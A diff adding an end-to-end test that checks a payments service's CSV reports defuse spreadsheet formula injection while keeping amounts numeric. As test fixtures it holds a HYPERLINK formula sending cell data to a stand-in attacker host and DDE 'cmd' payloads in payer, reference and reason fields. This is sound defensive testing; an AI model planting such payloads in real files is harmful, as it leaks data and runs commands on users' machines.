@@ -5,7 +5,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { createMerchant, onrampCli, startStack, type Stack } from '../support/stack';
 import { request } from '../support/http';
-import { randomAddress, settledBalanceDeposit } from '../support/onramps';
+import { createBalanceOnramp, randomAddress, settledBalanceDeposit } from '../support/onramps';
+import { sql } from '../support/sql';
 import { lagosDay } from '../../src/domain/lagos-day';
 
 // USD and NGN amounts are summed exactly, in millionths, never as floats.
@@ -105,6 +106,55 @@ describe('reconciliation exports end to end', () => {
         ['usd_pending_withdrawal', '7.250000', withdrawal.body.withdrawal_id],
       ].sort(),
     );
+  });
+
+  it('writes no cell a spreadsheet would run: text defused, amounts still numbers', async () => {
+    // A payer (through the sandbox bank, as a bank would send it) names himself a formula.
+    const onramp = await createBalanceOnramp(stack.url, key);
+    const payerName = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")';
+    const simulated = await request(stack.url, 'POST', '/v1/sandbox/deposits', {
+      key,
+      body: {
+        account_number: onramp.virtual_account.account_number,
+        amount_ngn: '2500.00',
+        bank_reference: `@SUM(1+1)*cmd|' /C calc'!A${Date.now()}`,
+        payer: { account_name: payerName, account_number: '0123456789', bank_code: '058' },
+      },
+    });
+    expect(simulated.status).toBe(201);
+    const depositId = simulated.body.deposit_id as string;
+    // Reasons and account digits as a provider, a chain or a deposit stored before this
+    // version could leave them (no API writes them): the export must defuse them too.
+    await sql(
+      databaseUrl,
+      `update deposits set flag_reason = $2, failure_reason = $3, sender_account = $4
+        where id = $1`,
+      [depositId, "=cmd|' /C calc'!A0", '+1+2', '123456-1+2'],
+    );
+    const exported = await get(`/v1/reports/deposits.csv?from=${today}&to=${today}`);
+    expect(exported.status).toBe(200);
+    const row = rows(exported.text).find((r) => r.deposit_id === depositId)!;
+    expect(row).toMatchObject({
+      payer_account_name: `'${payerName}`,
+      bank_reference: expect.stringMatching(/^'@SUM/),
+      flag_reason: "'=cmd|' /C calc'!A0",
+      failure_reason: "'+1+2",
+      payer_account_number_last4: "'-1+2",
+      // Amounts stay numbers.
+      amount_ngn: '2500.00',
+    });
+    // No cell of either report starts like a formula, except the numbers: exact decimals.
+    const ledger = await get(`/v1/reports/ledger.csv?from=${today}&to=${today}`);
+    for (const text of [exported.text, ledger.text]) {
+      for (const record of parse(text) as string[][]) {
+        for (const cell of record) {
+          if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-[0-9]+\.[0-9]+$/);
+        }
+      }
+    }
+    const debits = rows(ledger.text).filter((p) => p.net.startsWith('-'));
+    expect(debits.length).toBeGreaterThan(0);
+    for (const debit of debits) expect(debit.net).toMatch(/^-[0-9]+\.[0-9]{6}$/);
   });
 
   it('refuses what it should, in the error shape', async () => {
